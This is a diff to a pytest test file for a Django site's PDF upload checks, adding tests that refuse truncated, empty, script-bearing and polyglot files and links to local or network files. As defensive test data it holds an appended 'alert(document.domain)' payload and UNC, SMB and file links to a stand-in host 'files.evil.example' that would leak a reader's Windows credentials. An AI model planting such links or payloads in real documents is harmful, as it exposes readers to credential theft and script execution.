@@ -10,6 +10,7 @@ import hypothesis
 import pypdf
 import pytest
 from django.core.exceptions import ValidationError
+from django.core.files.base import ContentFile
 from hypothesis import strategies as st
 from pypdf.errors import LimitReachedError
 from pypdf.generic import TextStringObject
@@ -19,11 +20,17 @@ from assets import pdf_scan
 from assets.documents import read_pdf
 from tests.helpers import pdfs
 from tests.helpers.admin import ARTICLES, article_form
+from tests.helpers.factories import ArticleFactory
 from tests.helpers.files import stored_files
 
 pytestmark = pytest.mark.django_db
 
 SCRIPTS = "This PDF contains scripts. Export it again without them."
+EXTERNAL_FILES = (
+    "This PDF links to files outside itself (on the reader's computer or a network drive), "
+    "which PDF readers would try to open. Remove those links (links to web pages are fine), "
+    "export it again and upload the new file."
+)
 
 
 def upload_report(client, data, name="report.pdf"):
@@ -75,6 +82,84 @@ class TestOnlyAPdfIsAPdf:
         data = pdfs.blank_pdf(pages=2) + b"\r\n \x00\x00\x00\n"
         assert accepted(upload_report(staff_client, data)).pdf_pages == 2
 
+    def test_padding_after_the_end_is_fine_however_long(self, staff_client):
+        data = pdfs.blank_pdf(pages=2) + b"\x00" * 100_000 + b"\r\n"
+        assert accepted(upload_report(staff_client, data)).pdf_pages == 2
+
+    def test_a_long_run_of_data_after_the_end_is_called_that_not_a_cut_off_file(
+        self, staff_client, settings
+    ):
+        data = pdfs.blank_pdf() + b"*/" + b"alert(document.domain);" * 10_000
+        response = upload_report(staff_client, data)
+        assert "data added after the end of the PDF" in refusal(response, settings)[0]
+
+    def test_a_pdf_whose_end_is_cut_off_is_called_incomplete(self, staff_client, settings):
+        data = pdfs.blank_pdf(pages=40)
+        response = upload_report(staff_client, data[: len(data) - 200])
+        assert refusal(response, settings) == [
+            "This PDF is incomplete: its end is missing (it may have been cut off while "
+            "copying). Export it again and upload the new file."
+        ]
+
+    def test_a_pdf_with_no_pages_is_refused_with_what_to_do(self, staff_client, settings):
+        response = upload_report(staff_client, pdfs.blank_pdf(pages=0))
+        assert refusal(response, settings) == [
+            "This PDF has no pages. Export the report again with its pages and upload the new file."
+        ]
+
+
+class TestEveryWayInIsChecked:
+    """The field checks what it stores: forms are not the only way a file gets saved."""
+
+    def test_code_saving_an_article_with_a_polyglot_gets_the_error_and_nothing_is_stored(
+        self, settings
+    ):
+        upload = pdfs.upload(pdfs.javascript_polyglot(), "report.js")
+        with pytest.raises(ValidationError, match="This file is not a PDF"):
+            ArticleFactory(kind=Article.Kind.REPORT, pdf=upload)
+        assert not Article.objects.exists()
+        assert stored_files(settings) == []
+
+    def test_a_file_saved_into_the_field_directly_is_checked(self, settings):
+        article = ArticleFactory(kind=Article.Kind.REPORT)
+        hostile = ContentFile(pdfs.on_open(pdfs.javascript_action()), name="report.pdf")
+        with pytest.raises(ValidationError) as refused:
+            article.pdf.save("report.pdf", hostile)
+        assert refused.value.messages == [SCRIPTS]
+        assert stored_files(settings) == []
+        article.refresh_from_db()
+        assert not article.pdf
+
+
+class TestEachUploadIsParsedOnce:
+    @pytest.fixture
+    def parses(self, monkeypatch):
+        opened = []
+        reader = pdf_scan.BoundedReader
+
+        def counting(stream):
+            opened.append(stream)
+            return reader(stream)
+
+        monkeypatch.setattr("assets.documents.BoundedReader", counting)
+        return opened
+
+    def test_an_upload_through_the_admin_is_parsed_once(self, staff_client, parses):
+        assert accepted(upload_report(staff_client, pdfs.blank_pdf(pages=3))).pdf_pages == 3
+        assert len(parses) == 1
+
+    @pytest.mark.parametrize("way", ["model", "field"])
+    def test_a_pdf_saved_by_code_is_parsed_once(self, parses, way):
+        data = pdfs.blank_pdf(pages=2)
+        if way == "model":
+            article = ArticleFactory(kind=Article.Kind.REPORT, pdf=pdfs.upload(data))
+        else:
+            article = ArticleFactory(kind=Article.Kind.REPORT)
+            article.pdf.save("report.pdf", ContentFile(data))
+        article.refresh_from_db()
+        assert (article.pdf_pages, article.pdf_size) == (2, len(data))
+        assert len(parses) == 1
+
 
 class TestScripts:
     @pytest.mark.parametrize("place", pdfs.PLACES)
@@ -118,12 +203,59 @@ class TestScripts:
         data = pdfs.with_go_to_on_open(as_array=as_array)
         assert accepted(upload_report(staff_client, data)).pdf_pages == 2
 
-    def test_an_ordinary_link_to_a_web_page_passes(self, staff_client):
-        link = pdfs.action("/URI", URI=TextStringObject("https://example.org/data"))
+    @pytest.mark.parametrize(
+        "target", ["https://example.org/data", "mailto:press@example.org?subject=Report"]
+    )
+    def test_an_ordinary_link_to_a_web_page_or_an_address_passes(self, staff_client, target):
+        link = pdfs.action("/URI", URI=TextStringObject(target))
         assert accepted(upload_report(staff_client, pdfs.on_link_click(link))).pdf_pages == 1
+
+    def test_a_link_to_another_page_of_the_same_pdf_passes(self, staff_client):
+        assert accepted(upload_report(staff_client, pdfs.with_internal_link())).pdf_pages == 2
 
     def test_embedded_fonts_pass(self, staff_client):
         assert accepted(upload_report(staff_client, pdfs.with_embedded_font())).pdf_pages == 1
+
+
+class TestLinksToOtherFiles:
+    r"""A reader opening a file on `\\host\share` signs in to that host with the reader's
+    Windows credentials ("BadPDF"): no link in a report may point outside the PDF."""
+
+    SHARE = "\\\\files.evil.example\\share\\report.pdf"
+
+    @pytest.mark.parametrize(
+        ("place", "act"),
+        [
+            ("open-action", pdfs.go_to_other_file("/GoToR", SHARE)),
+            ("link", pdfs.go_to_other_file("/GoToE", SHARE)),
+            ("page-open", pdfs.play_media(SHARE)),
+        ],
+        ids=["go-to-remote", "go-to-embedded", "rendition"],
+    )
+    def test_actions_that_open_another_file_are_refused(self, staff_client, settings, place, act):
+        data = pdfs.PLACES[place](act)
+        assert refusal(upload_report(staff_client, data), settings) == [EXTERNAL_FILES]
+
+    @pytest.mark.parametrize(
+        "target",
+        [
+            "file:///C:/Users/Public/report.docx",
+            " FILE://files.evil.example/share/x",
+            SHARE,
+            "//files.evil.example/share/x.pdf",
+            "\\/files.evil.example/share",
+            "smb://files.evil.example/share",
+        ],
+        ids=["file", "file-spaced", "unc", "unc-slashes", "unc-mixed", "smb"],
+    )
+    def test_links_to_local_or_network_files_are_refused(self, staff_client, settings, target):
+        link = pdfs.action("/URI", URI=TextStringObject(target))
+        response = upload_report(staff_client, pdfs.on_link_click(link))
+        assert refusal(response, settings) == [EXTERNAL_FILES]
+
+    def test_a_file_base_for_relative_links_is_refused(self, staff_client, settings):
+        data = pdfs.with_link_base("file://files.evil.example/share/", "report.pdf")
+        assert refusal(upload_report(staff_client, data), settings) == [EXTERNAL_FILES]
 
 
 class TestAttachments:
